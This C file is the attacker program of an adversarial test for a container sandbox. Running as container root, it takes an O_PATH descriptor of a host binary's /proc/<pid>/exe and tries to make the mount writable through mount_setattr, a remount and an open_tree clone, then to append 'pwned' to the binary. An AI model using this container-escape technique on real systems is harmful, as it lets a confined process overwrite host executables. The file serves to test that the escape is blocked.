/* The attacker of tests/adversarial/selfexe.rs, run as a rootless
 * container's root (CAP_SYS_ADMIN in the container's user namespace, no
 * seccomp filter) with the host's /proc bound at /hproc and a directory of
 * the test's at /sock.
 *
 * It listens on /sock/s; the test sends it the host pid of a running exprun
 * and, with SCM_RIGHTS, an O_PATH descriptor of that exprun's
 * /proc/<pid>/exe: what a container holds after the `#!/proc/self/exe`
 * route on a kernel that lets it through. The probe first tries to open
 * /hproc/<pid>/exe itself, waits for that exprun to end (a running binary
 * cannot be written: ETXTBSY), then tries to make the descriptor's mount
 * writable (mount_setattr, remount) and to open the file for writing through
 * it, appending "pwned" if that opens. Prints one line per attempt: ok or the
 * errno's name. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

struct attr {
	unsigned long long set, clr, propagation, userns_fd;
};

static const char *result(long r)
{
	static char buf[32];
	if (r >= 0)
		return "ok";
	switch (errno) {
	case EPERM: return "EPERM";
	case EROFS: return "EROFS";
	case EINVAL: return "EINVAL";
	case EACCES: return "EACCES";
	case ETXTBSY: return "ETXTBSY";
	case ENOENT: return "ENOENT";
	}
	snprintf(buf, sizeof buf, "errno%d", errno);
	return buf;
}

/* The pid and the descriptor the test sends. */
static int receive(char *pid, size_t len)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX, .sun_path = "/sock/s"};
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) || listen(s, 1))
		return -1;
	int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	if (c < 0)
		return -1;
	char control[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {pid, len - 1};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
			     .msg_controllen = sizeof control};
	ssize_t n = recvmsg(c, &msg, MSG_CMSG_CLOEXEC);
	struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
	if (n <= 0 || !cm || cm->cmsg_type != SCM_RIGHTS)
		return -1;
	pid[n] = 0;
	int fd;
	memcpy(&fd, CMSG_DATA(cm), sizeof fd);
	close(c);
	close(s);
	return fd;
}

int main(void)
{
	char pid[32], path[300];
	/* Never outlive a test that failed before sending anything. */
	alarm(30);
	int fd = receive(pid, sizeof pid);
	if (fd < 0) {
		printf("no-descriptor\n");
		return 0;
	}
	snprintf(path, sizeof path, "/hproc/%s/exe", pid);
	printf("direct=%s\n", result(open(path, O_PATH | O_CLOEXEC)));
	snprintf(path, sizeof path, "/hproc/%s", pid);
	struct stat st;
	struct timespec t = {0, 1000000};
	for (int i = 0; i < 20000 && stat(path, &st) == 0; i++)
		nanosleep(&t, NULL);
	/* The exprun's own children, if any, are gone with it. */
	t.tv_nsec = 200000000;
	nanosleep(&t, NULL);

	struct attr a = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
	long r = syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
	printf("setattr=%s\n", result(r));
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	r = mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	printf("remount=%s\n", result(r));
	int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	printf("open=%s\n", result(w));
	if (w >= 0)
		printf("write=%s\n", result(write(w, "pwned\n", 6)));
	/* A clone of the mount in a namespace of the container's own, where its
	 * root holds CAP_SYS_ADMIN, made writable. */
	int c = syscall(SYS_open_tree, fd, "", 1 /* OPEN_TREE_CLONE */ | AT_EMPTY_PATH | O_CLOEXEC);
	printf("clone=%s\n", result(c));
	if (c >= 0) {
		printf("clone-setattr=%s\n", result(syscall(SYS_mount_setattr, c, "", AT_EMPTY_PATH, &a, sizeof a)));
		snprintf(path, sizeof path, "/proc/self/fd/%d", c);
		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		printf("clone-open=%s\n", result(w));
		if (w >= 0)
			printf("clone-write=%s\n", result(write(w, "pwned\n", 6)));
	}
	return 0;
}
